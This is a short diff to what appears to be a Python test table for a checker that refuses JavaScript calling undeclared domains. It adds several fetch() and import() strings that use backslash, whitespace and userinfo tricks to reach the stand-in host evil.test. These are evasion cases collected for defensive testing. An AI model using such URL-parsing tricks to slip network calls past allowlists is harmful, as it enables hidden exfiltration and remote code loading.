@@ -67,6 +67,13 @@ REFUSED = {
     "const x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/')": (
         "code/undeclared-domain"
     ),
+    # read as browsers read URLs, not as Python's urlsplit does
+    "fetch('https://evil.test\\\\@api.example.com/')": "code/undeclared-domain",
+    "fetch('\\\\\\\\evil.test/x')": "code/undeclared-domain",
+    "fetch('/\\\\evil.test/x')": "code/undeclared-domain",
+    "fetch(' https://evil.test/')": "code/undeclared-domain",
+    "fetch('ht\\ttps://evil.test/')": "code/undeclared-domain",
+    "import('\\\\\\\\evil.test/m.js')": "code/remote-import",
     "fetch(url)": "code/unverifiable-url",
     "fetch(`https://${host}/x`)": "code/unverifiable-url",
     "fetch('/' + path)": "code/unverifiable-url",
